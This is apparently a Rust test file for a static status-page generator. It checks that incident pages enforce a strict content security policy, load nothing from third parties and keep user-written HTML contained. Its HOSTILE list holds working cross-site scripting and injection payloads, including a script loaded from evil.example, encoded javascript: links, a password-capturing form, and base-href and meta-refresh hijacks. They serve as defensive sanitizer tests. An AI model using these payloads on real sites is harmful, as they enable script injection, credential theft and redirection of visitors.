//! No page asks a third party for anything, runs what is not ours, or leans on inline styles.

use crate::support::Repo;
use crate::support::page::{Element, Page};
use std::collections::BTreeMap;
use std::sync::LazyLock;

/// A built site and its pages by path.
struct Built {
    name: &'static str,
    pages: BTreeMap<String, Page>,
}

/// Sites with everything that can be on a page; built once for all tests.
static SITES: LazyLock<Vec<Built>> = LazyLock::new(|| {
    let built = sites().into_iter().map(|(name, repo)| {
        repo.build(&[]);
        let pages = repo.pages();
        Built { name, pages }
    });
    built.collect()
});

/// Every page of every site, with its name for messages.
fn pages() -> impl Iterator<Item = (String, &'static Page)> {
    let of = |site: &'static Built| {
        let pages = site.pages.iter();
        pages.map(|(path, page)| (format!("{}: {path}", site.name), page))
    };
    SITES.iter().flat_map(of)
}

fn sites() -> Vec<(&'static str, Repo)> {
    let hostile = Repo::small();
    for (i, attack) in HOSTILE.iter().enumerate() {
        let front = format!("title: 'Attack {i} <script>alert(1)</script>'\ncomponents: [api]");
        let body = format!(
            "{attack}\n\n## Investigating — 2026-08-14 10:0{} UTC\n\nBefore {attack} behind\n\n\
             # Postmortem\n\n## {attack}\n\n{attack}\n",
            i % 10
        );
        hostile.incident(&format!("attack-{i}"), &front, &body);
    }
    hostile.incident(
        "zz-harmless",
        "title: Harmless\ncomponents: [api]",
        "Words.\n\n## Investigating — 2026-08-14 10:00 UTC\n\nWords.",
    );
    vec![
        ("bad-day", Repo::fixture("bad-day")),
        ("calm", Repo::fixture("calm")),
        ("own site", Repo::own_site()),
        ("hostile", hostile),
    ]
}

/// Raw HTML that people with bad intentions, or a word processor, would write.
const HOSTILE: [&str; 28] = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a.png 2x' alt='words'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<p style='position:fixed;inset:0'>over all</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='&#xFDD0;javascript:alert(1)'>x</a>",
    "<img src='&#xFDD0;//evil.example/x.png'>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div onclick=alert(1) onmouseover='alert(1)'>x</div>",
    "<video src=https://evil.example/x.mp4 poster=https://evil.example/x.png autoplay></video>",
    "</main></body></html><h1>mine now</h1>",
    "<div><table><tr><td><b><i>unclosed",
    "<a href=https://ok.example target=_blank>x",
    "<leptos-island data-component=x data-props='{}'>x</leptos-island>",
];

#[test]
fn no_page_asks_anybody_else_for_anything() {
    for (path, page) in pages() {
        for (element, attribute, address) in page.addresses() {
            let lower = address.trim().to_lowercase();
            let elsewhere = lower.contains("://") || lower.starts_with("//");
            let shown = format!("{path}: <{} {attribute}={address}>", element.name);
            assert!(!elsewhere || is_navigation(element), "{shown}");
            let fine = [
                "http:", "https:", "mailto:", "tel:", "sms:", "xmpp:", "matrix:",
            ];
            let scheme = lower
                .split_once(':')
                .filter(|(s, _)| !s.contains(['/', '#', '?']));
            assert!(
                scheme.is_none() || fine.iter().any(|f| lower.starts_with(f)),
                "{shown}"
            );
        }
    }
}

/// Links that a reader follows on purpose, and what search engines read.
fn is_navigation(element: &Element) -> bool {
    let rel = element.get("rel").unwrap_or_default();
    element.name == "a" || element.name == "link" && ["canonical", "alternate"].contains(&rel)
}

#[test]
fn every_page_forbids_what_is_not_ours() {
    for (path, page) in pages() {
        let policy = page.csp();
        let shown = format!("{path}: {policy}");
        assert!(policy.starts_with("default-src 'none'"), "{shown}");
        assert!(!policy.contains("unsafe-inline"), "{shown}");
        assert!(
            !policy.replace("'wasm-unsafe-eval'", "").contains("unsafe"),
            "{shown}"
        );
        assert!(!policy.contains('*'), "{shown}");
        // Pages that only lead on hold nothing that anybody wrote.
        let leads_on = page
            .all("meta")
            .any(|m| m.get("http-equiv") == Some("refresh"));
        for directive in ["base-uri 'none'", "form-action 'none'"] {
            assert!(leads_on || policy.contains(directive), "{shown}");
        }
    }
}

/// What the policy forbids would be dead on the page.
#[test]
fn no_page_leans_on_inline_styles_or_handlers() {
    for (path, page) in pages() {
        for element in &page.elements {
            for (attribute, value) in &element.attributes {
                let shown = format!("{path}: <{} {attribute}=\"{value}\">", element.name);
                assert!(attribute != "style", "{shown}");
                assert!(!attribute.starts_with("on"), "{shown}");
                assert!(attribute != "srcdoc", "{shown}");
            }
        }
    }
}

fn scripts_and_frames(page: &Page) -> Vec<&Element> {
    let suspicious = [
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "math",
        "textarea",
        "plaintext",
        "video",
        "audio",
        "leptos-island",
    ];
    let elements = page.elements.iter().filter(|e| e.in_main);
    elements
        .filter(|e| suspicious.contains(&e.name.as_str()) || e.name == "script")
        .collect()
}

/// A page with an attack on it has the same bones as one without.
#[test]
fn what_is_written_cannot_break_out_of_its_place() {
    let hostile = SITES.iter().find(|site| site.name == "hostile").unwrap();
    let page = |id: &str| &hostile.pages[&format!("incidents/{id}/index.html")];
    let count = |page: &Page, name: &str| page.all(name).count();
    let harmless = page("zz-harmless");
    for (i, shown) in HOSTILE.iter().enumerate() {
        let page = page(&format!("attack-{i}"));
        for name in [
            "html", "head", "body", "main", "h1", "footer", "header", "meta", "title",
        ] {
            assert_eq!(count(page, name), count(harmless, name), "{name}: {shown}");
        }
        let allowed = scripts_and_frames(harmless).len();
        let found = scripts_and_frames(page);
        assert!(found.len() <= allowed, "{shown}: {found:#?}");
        // Images are shown, or not there at all; one without an address is neither.
        assert!(page.all("img").all(|i| i.get("src").is_some()), "{shown}");
    }
}

/// The parser of browsers has nothing to say about any page.
#[test]
fn every_page_is_html_that_a_browser_need_not_mend() {
    for (path, page) in pages() {
        assert_eq!(page.errors, Vec::<String>::new(), "{path}");
    }
}

/// CommonMark reads some HTML up to its end, or to that of the file.
#[test]
fn html_without_an_end_cannot_swallow_updates() {
    for open in [
        "<!-- a comment",
        "<textarea>",
        "<script>",
        "<style>",
        "<pre>",
        "<?php",
    ] {
        let repo = Repo::small();
        let body = format!(
            "{open}\n\n## Investigating — 2026-08-14 10:00 UTC\n\nA.\n\n\
             ## Resolved — 2026-08-14 11:00 UTC\n\nB."
        );
        repo.incident("x", "title: X\nstarted: 2026-08-14 10:00 UTC", &body);
        let outcome = repo.run(&["check"]);
        assert_eq!(outcome.status, 1, "{open}: {}", outcome.stdout);
        assert!(
            outcome.stdout.contains("html-not-closed"),
            "{open}: {}",
            outcome.stdout
        );
    }
    // What is commented out on purpose is nobody's mistake.
    let repo = Repo::small();
    let body = "<!--\n## Monitoring — 2026-08-14 10:00 UTC\n-->\n\n## Resolved — 2026-08-14 11:00 UTC\n\nB.";
    repo.incident("x", "title: X", body);
    assert_eq!(repo.run(&["check", "--strict"]).status, 0);
}

/// A hidden component has a page for those who know of it; nobody else is told.
#[test]
fn hidden_components_are_in_no_sitemap_and_open_no_origin() {
    let repo = Repo::small();
    repo.write(
        "allclear.toml",
        "[site]\ntitle = \"Small\"\nurl = \"https://status.example.com/\"\n\n\
         [[component]]\nid = \"api\"\n\n[[component]]\nid = \"inner\"\nhidden = true\n\
         [[component.monitor]]\ntype = \"http\"\nurl = \"https://inner.example/\"\nbrowser = true\n",
    );
    assert_eq!(repo.build(&[]).status, 0);
    let site = repo.site();
    let sitemap = String::from_utf8_lossy(&site["sitemap.xml"]);
    assert!(sitemap.contains("/components/api/"), "{sitemap}");
    assert!(!sitemap.contains("inner"), "{sitemap}");
    assert!(!repo.page("index.html").csp().contains("inner"));
}
